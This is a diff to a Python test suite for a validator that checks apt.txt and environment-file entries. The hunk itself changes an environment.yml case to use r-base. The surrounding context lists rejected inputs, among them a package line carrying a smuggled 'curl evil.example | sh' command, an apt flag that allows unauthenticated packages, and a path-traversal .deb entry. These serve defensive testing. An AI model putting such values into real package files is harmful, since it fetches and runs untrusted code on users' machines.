@@ -166,7 +166,7 @@ def test_an_extra_kernel_with_its_own_packages(
         ("apt.txt", "vim; curl evil.example | sh\n", "is not a Debian package name"),
         ("apt.txt", "-o APT::Get::AllowUnauthenticated=1 vim\n", "is not a Debian package name"),
         ("apt.txt", "../../tmp/evil.deb\n", "is not a Debian package name"),
-        ("environment.yml", "dependencies: [numpy]\n", "environment.yml is not supported"),
+        ("environment.yml", "dependencies: [r-base]\n", "a conda package pip cannot install"),
         ("Pipfile", "[packages]\n", "Pipfile is not supported"),
     ],
 )
